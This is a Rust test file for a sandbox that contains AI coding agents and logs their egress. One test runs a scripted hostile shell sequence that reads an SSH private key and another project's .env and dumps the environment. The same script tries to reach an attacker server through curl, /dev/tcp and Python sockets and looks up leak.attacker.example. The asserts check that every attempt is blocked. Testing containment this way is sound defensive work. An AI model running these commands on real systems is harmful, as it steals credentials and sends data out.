//! `loopward contain`: a program held to files, reads, environment and network, its egress and
//! processes in the ledger; a contained hook judged as its host.

use super::*;

/// A project whose builder only says it is done, allowed no host, with `extra` appended to its
/// config; and a home of its own: `(project, home)`.
fn no_hosts(extra: &str) -> (Project, tempfile::TempDir) {
    let dir = project("[[agents.builder]]\ntext = \"done\"\n");
    with_net(dir.path(), "[]", extra);
    (dir, tempfile::tempdir().unwrap())
}

#[test]
fn a_contained_program_is_held_to_files_reads_environment_and_network_and_its_egress_is_in_the_ledger(
) {
    let (good, _) = http_server("127.0.0.1", "hello-from-allowed");
    let (evil, evil_hits) = http_server("127.0.0.2", "attacker-got-it");
    let dir = project("[[agents.builder]]\ntext = \"done\"\n");
    let d = dir.path();
    with_net(
        d,
        "[\"127.0.0.1\"]",
        "[[territory]]\npaths = [\"plan.md\"]\nowner = \"planner\"\n",
    );
    let cfg = d.join("loopward.toml");
    let t = std::fs::read_to_string(&cfg).unwrap();
    std::fs::write(
        &cfg,
        format!("{t}\n[[agent]]\nname = \"planner\"\ntools = [\"shell\"]\n"),
    )
    .unwrap();
    std::fs::write(d.join("plan.md"), "the plan\n").unwrap();
    std::fs::create_dir(d.join("src")).unwrap();
    let home = tempfile::tempdir().unwrap();
    std::fs::create_dir(home.path().join(".ssh")).unwrap();
    std::fs::write(home.path().join(".ssh/id_ed25519"), "PRIVATE-KEY-BYTES").unwrap();
    let other = tempfile::tempdir().unwrap();
    std::fs::write(other.path().join(".env"), "OTHER=leaked-from-next-door").unwrap();
    let script = format!(
        "env; cat /proc/self/environ | tr '\\0' '\\n'; \
         echo hijack > plan.md; echo code > src/main.rs; \
         cat {home}/.ssh/id_ed25519; cat {other}/.env; \
         curl -s -m 5 http://127.0.0.1:{good}/; echo; \
         echo 1=$(curl -s -m 5 http://127.0.0.2:{evil}/); \
         echo 2=$(curl -s -m 5 --noproxy '*' http://127.0.0.2:{evil}/ || echo direct-failed); \
         (exec 3<>/dev/tcp/127.0.0.2/{evil}) 2>/dev/null && echo 3=opened || echo 3=devtcp-failed; \
         python3 -c 'import socket; socket.create_connection((\"127.0.0.2\", {evil}), 3)' 2>/dev/null && echo 4=opened || echo 4=py-failed; \
         getent hosts leak.attacker.example >/dev/null && echo 5=resolved || echo 5=dns-failed; \
         exit 3",
        home = home.path().display(),
        other = other.path().display(),
    );
    let out = contain(d, home.path(), &["bash", "-c", &script]);
    let all = text(&out);
    // The program's own exit status comes back.
    assert_eq!(out.status.code(), Some(3), "{all}");
    for absent in [
        "sk-user-key-that-must-stay-out",
        SECRET,
        "PRIVATE-KEY-BYTES",
        "leaked-from-next-door",
        "attacker-got-it",
    ] {
        assert!(
            !all.contains(absent),
            "{absent} reached the program:\n{all}"
        );
    }
    assert!(all.contains("plan.md: Permission denied"), "{all}");
    crate::support::assert_file(d, "plan.md", "the plan\n");
    crate::support::assert_file(d, "src/main.rs", "code\n");
    assert!(all.contains("hello-from-allowed"), "{all}");
    crate::support::assert_says(
        &all,
        "1=loopward egress: 127.0.0.2 is not in this agent's net allow-list",
    );
    crate::support::assert_says_all(
        &all,
        &[
            "2=direct-failed",
            "3=devtcp-failed",
            "4=py-failed",
            "5=dns-failed",
        ],
    );
    assert_eq!(evil_hits.load(std::sync::atomic::Ordering::SeqCst), 0);
    // The supervisor's ledger holds every egress decision, verifies, and report counts them.
    let events = std::fs::read_to_string(d.join("runs/s1/events.jsonl")).unwrap();
    assert!(
        events.contains(
            "\"kind\":\"egress_decided\",\"data\":{\"allowed\":false,\"host\":\"127.0.0.2\""
        ),
        "{events}"
    );
    assert!(events.contains("exited with status 3"), "{events}");
    let verify = loopward(d, &["verify", "runs/s1"], &[]);
    assert_eq!(verify.status.code(), Some(0), "{}", text(&verify));
    let report = loopward(d, &["report"], &[]);
    crate::support::assert_prints(&report, "egress: 1 connections allowed, 1 refused");
}

/// A contained session runs for hours: the orphans of its shells are reaped by the sandbox's
/// init, and its `/proc` shows the sandbox's processes only, not the supervisor's.
#[test]
fn a_contained_program_sees_only_its_own_processes_and_leaves_no_zombies() {
    let (dir, home) = no_hosts("");
    let d = dir.path();
    let me = std::process::id();
    let script = format!(
        "for i in 1 2 3 4 5; do sh -c 'sleep 0.05 &'; done; \
         exec perl -e 'select(undef, undef, undef, 0.5); \
           my @ps = map {{ m{{/proc/(\\d+)/}}; $1 }} glob(\"/proc/[0-9]*/stat\"); \
           my $z = grep {{ open(my $h, \"<\", \"/proc/$_/stat\") && <$h> =~ /\\) Z / }} @ps; \
           print \"pids=@ps zombies=$z\\n\"; \
           print open(my $c, \"<\", \"/proc/{me}/cmdline\") ? \"host-visible\\n\" : \"host-hidden\\n\";'"
    );
    let out = contain(d, home.path(), &["bash", "-c", &script]);
    let said = text(&out);
    assert_eq!(out.status.code(), Some(0), "{said}");
    assert!(said.contains("pids=1 2 zombies=0"), "{said}");
    assert!(said.contains("host-hidden"), "{said}");
}

#[test]
fn a_contained_program_without_network_isolation_says_so_in_the_ledger_and_the_report() {
    let (dir, home) = no_hosts("[net]\nisolate = false\n");
    let d = dir.path();
    let out = contain(d, home.path(), &["true"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    crate::support::assert_prints(&out, "the host's network (isolation opted out)");
    let events = std::fs::read_to_string(d.join("runs/s1/events.jsonl")).unwrap();
    crate::support::assert_says(&events, "network: the contained program reaches any host");
    let report = loopward(d, &["report", "--json"], &[]);
    let figures: serde_json::Value = serde_json::from_slice(&report.stdout).unwrap();
    assert_eq!(figures["gates"]["sandbox"]["warned"], 1, "{figures}");
}

#[test]
fn contain_refuses_bad_input_before_anything_starts() {
    let dir = project("[[agents.builder]]\ntext = \"done\"\n");
    let d = dir.path();
    let home = tempfile::tempdir().unwrap();
    // A program that is not there: 127, and no session.
    let out = contain(d, home.path(), &["no-such-program-anywhere"]);
    assert_eq!(out.status.code(), Some(127), "{}", text(&out));
    crate::support::assert_prints(&out, "\"no-such-program-anywhere\" is not found");
    assert!(!d.join("runs/s1").exists());
    // An agent not on the team.
    let out = loopward(
        d,
        &["contain", "--agent", "ghost", "--", "true"],
        &[("SECRET_TOKEN", SECRET)],
    );
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    crate::support::assert_prints(
        &out,
        "there is no agent ghost on the team; use one of: builder",
    );
    // A secret whose source is missing.
    let out = loopward(d, &["contain", "--agent", "builder", "--", "true"], &[]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    crate::support::assert_prints(&out, "secrets.SECRET_TOKEN.env");
    assert!(!d.join("runs").exists());
}

#[test]
fn a_contained_hook_of_each_host_is_judged_by_the_supervisor_as_that_host() {
    let dir = project("[[agents.builder]]\ntext = \"done\"\n");
    let d = dir.path();
    let root = d.canonicalize().unwrap();
    // A patch of an unclaimed file is Codex's way to write it: allowed for the builder. Judged
    // as Claude Code's, `apply_patch` is another host's writing tool, and denied.
    let codex = serde_json::json!({
        "session_id": "cx-1", "transcript_path": null, "cwd": root,
        "hook_event_name": "PreToolUse", "model": "m", "permission_mode": "default",
        "turn_id": "t", "tool_name": "apply_patch", "tool_use_id": "call_1",
        "tool_input": {"command": "*** Begin Patch\n*** Add File: notes.md\n+hi\n*** End Patch\n"},
    });
    let gemini = serde_json::json!({
        "session_id": "gm-1", "cwd": root, "hook_event_name": "BeforeTool",
        "tool_name": "write_file", "tool_input": {"file_path": "notes.md", "content": "hi"},
    });
    std::fs::write(d.join("codex.json"), codex.to_string()).unwrap();
    std::fs::write(d.join("gemini.json"), gemini.to_string()).unwrap();
    let exe = env!("CARGO_BIN_EXE_loopward");
    let script = format!(
        "{exe} hook codex < codex.json; echo \"codex=$?\"; {exe} hook gemini < gemini.json; echo \"gemini=$?\""
    );
    let home = tempfile::tempdir().unwrap();
    let out = contain(d, home.path(), &["sh", "-c", &script]);
    let t = text(&out);
    assert_eq!(out.status.code(), Some(0), "{t}");
    assert!(t.contains("codex=0") && t.contains("gemini=0"), "{t}");
    assert!(!t.contains("deny") && !t.contains("apply_patch"), "{t}");
    // Both were judged and recorded outside, in the supervisor's session ledgers.
    let all = files(&d.join("runs"));
    assert!(
        all.iter().any(|(_, b)| holds(b, "call_1")),
        "no ledger records the Codex call"
    );
    assert!(
        all.iter()
            .any(|(_, b)| holds(b, "\"tool\":\"Write\"") && holds(b, "notes.md")),
        "no ledger records the Gemini call: {:?}",
        all.iter().map(|(p, _)| p).collect::<Vec<_>>()
    );
}
